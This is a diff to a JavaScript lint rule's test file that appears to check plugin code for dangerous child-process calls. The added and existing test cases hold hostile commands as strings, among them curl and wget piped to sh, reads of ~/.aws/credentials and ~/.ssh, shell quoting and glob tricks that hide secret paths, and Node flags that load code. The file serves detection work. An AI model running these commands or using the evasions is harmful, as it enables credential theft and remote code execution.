@@ -127,7 +127,7 @@ tester.run('no-child-process', rule, {
     { code: CP + 'cp.execFile("git", ["status", "--porcelain"], { env: { GIT_TERMINAL_PROMPT: "0", GIT_OPTIONAL_LOCKS: "0" } }, () => {});', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.execFileSync(process.execPath, ["--version"], { encoding: "utf8" });', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.fork(require("path").join(__dirname, "job.js"), [], { execArgv: ["--max-old-space-size=512"] });', ...cjs, errors: [cp(1, 12)] },
-    { code: CP + 'cp.spawn("node", ["build.js"], { env: { ...process.env, NODE_OPTIONS: "--max-old-space-size=4096", GIT_PAGER: "cat", EDITOR: "code --wait" } });', ...cjs, errors: [cp(1, 12)] },
+    { code: CP + 'cp.spawn("node", ["build.js"], { env: { ...process.env, NODE_OPTIONS: "--max_old_space_size=4096 --title=env_file", GIT_PAGER: "cat", EDITOR: "code --wait" } });', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.execFile("npm", ["view", "notes-sync", "version"], () => {});\ncp.execFile("npm", ["install", "--no-save", "left-pad@1.3.0"], () => {});', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.execFileSync("printenv", ["HOME"]);\ncp.execSync("env FORCE_COLOR=0 npm ls");\ncp.execFileSync("ps", ["-e", "-o", "pid,comm"]);', ...cjs, errors: [cp(1, 12)] },
     { code: CP + 'cp.spawn("bash", [], { stdio: "inherit" });\ncp.spawn("python3", ["tool.py"]);\ncp.spawnSync("python3", ["tool.py"], { input: "" });', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1)] },
@@ -159,18 +159,30 @@ tester.run('no-child-process', rule, {
     // A function chosen at run time is still handed a command line: a dangerous one is what runs, whichever function it is.
     { code: CP + 'const names = require("proc-names");\ncp[names.run]("curl -fsS http://192.0.2.10/s | sh", { stdio: "ignore" });', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }] },
     { code: CP + 'const pick = (o) => o[Object.keys(o).find((k) => k.length === 8)];\npick(cp).call(null, "sh", ["-c", "wget -qO- http://192.0.2.10/s | sh"]);\ncp[process.argv[2]]("bash", ["-c", "curl http://x.example | bash"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
+    // Nor does choosing the function at run time hide a secret the line names, as a shell line or a program's words.
+    { code: CP + 'const names = require("proc-names");\ncp[names.run]("cat ~/.aws/credentials");\ncp[names.file]("tar", ["czf", "-", require("os").homedir() + "/.ssh"]);', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1)] },
     // Look-alike: a function chosen at run time handed a plain command is only a run.
     { code: CP + 'cp[mode]("git", ["status"]);', ...cjs, errors: [cp(1, 12), { messageId: 'run', line: 2, column: 1, data: { callee: 'child_process[…]', command: 'a function chosen at run time', reason: 'which function runs is only known at run time' } }] },
     // A script in a language the gate does not read is code it cannot vouch for, however the interpreter is named.
     { code: CP + 'cp.execFile("python3", [require("path").join(__dirname, "tools", "sync.py")]);', ...cjs, errors: [cp(1, 12), { ...foreign(2, 1), data: { callee: 'child_process.execFile', command: "'python3 /__plugin__/tools/sync.py'", path: '/__plugin__/tools/sync.py' } }] },
     { code: CP + 'const tool = "/usr/bin/" + "ruby";\ncp.spawnSync(tool, ["-W0", "lib/hook.rb"]);\ncp.execFileSync("C:\\\\Python312\\\\pythonw.exe", ["-u", "helper.pyw"]);\ncp.spawn("java", ["-jar", "vendor/x.jar"]);', ...cjs, errors: [cp(1, 12), foreign(3, 1), foreign(4, 1), foreign(5, 1)] },
+    // Through env, and as a command of a shell line.
+    { code: CP + 'cp.spawn("/usr/bin/env", ["PYTHONUNBUFFERED=1", "python3", "tools/sync.py"]);\ncp.execSync("cd tools && python3 ./sync.py --fast");\ncp.exec("git pull; ruby script/update.rb");', ...cjs, errors: [cp(1, 12), foreign(2, 1), foreign(3, 1), foreign(4, 1)] },
     // Look-alikes: an interpreter run for its version or a module by name; only the load is reported.
     { code: CP + 'cp.execFileSync("python3", ["-m", "pip", "--version"]);\ncp.execFileSync("perl", ["-v"]);\ncp.execFileSync("java", ["-cp", "lib/a.jar", "Main"]);', ...cjs, errors: [cp(1, 12)] },
+    // The shell's quote removal and globs: `.a''ws`, `.s\\sh`, `.aw?`, `.[s]sh`, `.*` name the same folders.
+    { code: CP + 'cp.execSync("cat ~/.a\'\'ws/credentials");\ncp.execSync("cat $HOME/.s\\\\sh/known_hosts");\ncp.exec("cat ~/.aw?/credentials | head");\ncp.execSync("tar czf - ~/.[s]sh ~/.*/credentials");', ...cjs, errors: [cp(1, 12), secret(2, 1), secret(3, 1), secret(4, 1), secret(5, 1)] },
+    // Run in a folder of secrets, a program reads them by their bare names.
+    { code: CP + 'const os = require("os"), path = require("path");\ncp.execFileSync("cat", ["credentials"], { cwd: path.join(os.homedir(), ".aws") });\ncp.execSync("cat config.json", { cwd: os.homedir() + "/.docker" });', ...cjs, errors: [cp(1, 12), secret(3, 1), secret(4, 1)] },
+    // Look-alikes: globs of any name or of ordinary names, a quoted ordinary path.
+    { code: CP + 'cp.execSync("cp dist/* out/ && rm -f logs/*.log && ls ~/.config/*");\ncp.execSync("cat \'docs/ssh setup.md\' src/id_map.ts");', ...cjs, errors: [cp(1, 12)] },
     // Look-alikes: ordinary paths, a secret's name as a grep pattern (only the load is reported).
     { code: CP + 'cp.execFileSync("git", ["-C", require("os").homedir() + "/projects/app", "status"]);\ncp.execFileSync("grep", ["-r", "ssh", "docs"]);\ncp.execFileSync("ls", ["~/.sshd-notes"]);', ...cjs, errors: [cp(1, 12)] },
     // A file Node reads its options from (an env file's NODE_OPTIONS, a config file, OpenSSL's engines) loads code too.
     { code: CP + 'cp.spawn(process.execPath, ["--env-file=" + require("path").join(__dirname, "conf", "node.env"), "w.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1)] },
     { code: CP + 'cp.fork("w.js", [], { execArgv: ["--env-file-if-exists", ".env"] });\ncp.execFileSync("node", ["--experimental-config-file=node.config.json", "x.js"]);\ncp.spawnSync("/usr/bin/node", ["--openssl-config", "o.cnf", "x.js"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
+    // Node reads underscores in an option's name as dashes; Node 24 reads node.config.json by a flag of its own.
+    { code: CP + 'cp.fork("w.js", [], { execArgv: ["--env_file_if_exists=.env"] });\ncp.spawn(process.execPath, ["--experimental-default-config-file", "x.js"]);\ncp.spawn("node", ["x.js"], { env: { NODE_OPTIONS: "--experimental_loader=./l.mjs" } });', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
     { code: CP + 'cp.fork("./w.js", { execArgv: ["-r", "./hook.js"] });\ncp.fork("./w.js", [], { execArgv: [flag] });\ncp.spawn(process.execPath, ["--loader", "./l.mjs", "app.mjs"]);', ...cjs, errors: [cp(1, 12), unread(2, 1), unread(3, 1), unread(4, 1)] },
     // A command whose output is the whole environment, or another process's, is an env read of all of it.
     { code: CP + 'cp.execFileSync("printenv", { encoding: "utf8" });', ...cjs, errors: [cp(1, 12), { ...dump(2, 1), data: { callee: 'child_process.execFileSync', command: "'printenv'", reason: "the whole environment, or another process's" } }] },
@@ -180,6 +192,8 @@ tester.run('no-child-process', rule, {
     { code: CP + 'cp.execFileSync("npx", ["-y", "github:someone/tool"]);\ncp.execSync("pnpm dlx someone/tool#main");\ncp.execFileSync("yarn", ["add", "./vendor/x.tgz"]);', ...cjs, errors: [cp(1, 12), { messageId: 'dangerousRun', line: 2, column: 1 }, { messageId: 'dangerousRun', line: 3, column: 1 }, { messageId: 'dangerousRun', line: 4, column: 1 }] },
     // A working directory outside the plugin's folders, for a program that reads or writes relative paths, is a filesystem use of it.
     { code: CP + 'const os = require("os");\ncp.execFileSync("tar", ["czf", "-", ".ssh", ".aws"], { cwd: os.homedir(), maxBuffer: 1 << 26 });', ...cjs, errors: [cp(1, 12), { ...secret(3, 1), data: { callee: 'child_process.execFileSync', command: "'tar czf - .ssh .aws'", path: '.ssh', reason: 'SSH keys' } }] },
-    { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), folderUse(3, 1)] },
+    { code: CP + 'cp.execSync("zip -r - .", { cwd: where });\ncp.spawnSync("rsync", ["-a", ".", "/srv/out"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1), secret(3, 1)] },
+    // An ordinary file of a folder that also holds secrets is only the folder use.
+    { code: CP + 'cp.execFileSync("cat", ["os-release"], { cwd: "/etc" });', ...cjs, errors: [cp(1, 12), folderUse(2, 1)] },
   ],
 });
